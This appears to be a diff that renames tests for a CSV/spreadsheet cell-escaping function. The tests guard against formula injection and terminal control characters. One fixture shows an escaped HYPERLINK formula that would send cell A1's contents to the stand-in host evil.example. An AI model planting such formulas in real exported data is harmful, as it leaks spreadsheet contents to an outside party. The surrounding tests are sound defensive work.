@@ -30,37 +30,37 @@ def cell(value: Any) -> str:
 class TestText:
     @pytest.mark.parametrize("start", ["=", "+", "-", "@", "\t", "\r", "\n", "\uff1d", "\uff0b", "\uff0d", "\uff20"])
     @pytest.mark.parametrize("before", ["", " ", "\u00a0 ", '"', ' "'])
-    def test_that_starts_a_formula_gets_an_apostrophe(self, before: str, start: str) -> None:
+    def test_an_apostrophe_precedes_a_formula(self, before: str, start: str) -> None:
         (row,) = list(csv.reader(io.StringIO(cell(f"{before}{start}1"), newline="")))[:1]
 
         assert row[0] == f"'{before}{start}1"
 
     @pytest.mark.parametrize("delimiter", [";", "|", "\t", "\n", "\r"])
-    def test_that_a_program_with_another_delimiter_would_split_is_safe_too(self, delimiter: str) -> None:
+    def test_an_apostrophe_precedes_a_formula_after_another_delimiter(self, delimiter: str) -> None:
         assert cell(f"Foo{delimiter}=1+1") == f'"Foo{delimiter}\'=1+1"'
 
-    def test_is_quoted_with_its_quotation_marks_doubled(self) -> None:
+    def test_text_is_quoted_and_its_quotation_marks_are_doubled(self) -> None:
         assert cell(LINK) == '"\'=HYPERLINK(""http://evil.example/?""&A1,""Open"")"'
 
     @pytest.mark.parametrize("value", ["Müller & Co", "a=b", "M8 - 20", "1-2", "me@example.com", "'quoted'", ""])
-    def test_that_starts_nothing_is_as_it_was(self, value: str) -> None:
+    def test_harmless_text_is_unchanged(self, value: str) -> None:
         assert cell(value) == f'"{value}"'
 
     @pytest.mark.parametrize("character", ["\0", "\x1b", "\x7f", "\x9b"])
-    def test_holds_nothing_that_a_terminal_obeys(self, character: str) -> None:
+    def test_control_characters_are_replaced(self, character: str) -> None:
         assert cell(f"a{character}[31mb") == '"a\N{REPLACEMENT CHARACTER}[31mb"'
 
     @given(st.lists(st.text(ODD, max_size=12), min_size=1, max_size=4), st.sampled_from(",;\t|"))
-    def test_no_delimiter_makes_a_formula_of_it(self, values: list[str], delimiter: str) -> None:
+    def test_no_delimiter_turns_text_into_a_formula(self, values: list[str], delimiter: str) -> None:
         row = {"id": 1} | {f"c{number}": value for number, value in enumerate(values)}
 
         written = spreadsheet.render([row], list(row))
 
         for cells in csv.reader(io.StringIO(written, newline=""), delimiter=delimiter):
-            assert not [each for each in cells if re.match('[\\s"]*[=+\\-@\uff1d\uff0b\uff0d\uff20]', each)]
+            assert not [text for text in cells if re.match('[\\s"]*[=+\\-@\uff1d\uff0b\uff0d\uff20]', text)]
 
     @given(st.text(st.characters(exclude_categories=["Cc", "Cs"])))
-    def test_loses_nothing(self, value: str) -> None:
+    def test_no_character_is_lost(self, value: str) -> None:
         ((read,),) = csv.reader(io.StringIO(cell(value), newline=""))
 
         assert read.replace("'", "") == value.replace("'", "")
@@ -71,10 +71,10 @@ class TestNumber:
         ("value", "written"),
         [(-5, "-5"), (0, "0"), (-12.5, "-12.50"), (1e12, "1000000000000.00"), (0.1, "0.10"), (True, '"true"')],
     )
-    def test_stays_a_number(self, value: Any, written: str) -> None:
+    def test_numbers_are_not_quoted(self, value: Any, written: str) -> None:
         assert cell(value) == written
 
-    def test_null_is_empty(self) -> None:
+    def test_null_is_an_empty_cell(self) -> None:
         assert cell(None) == '""'
 
 
